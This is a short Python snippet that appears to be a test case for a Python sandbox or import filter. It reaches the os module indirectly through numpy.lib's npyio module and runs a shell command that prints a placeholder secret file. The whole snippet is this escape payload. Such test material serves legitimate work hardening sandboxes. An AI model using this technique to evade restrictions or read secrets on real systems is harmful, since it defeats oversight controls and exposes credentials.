# numpy.lib keeps os.
# effect: run
# tree: scientific
import numpy
getattr(numpy.lib, "_npyio_impl", numpy.lib.npyio).os.system("cat @SECRET@")
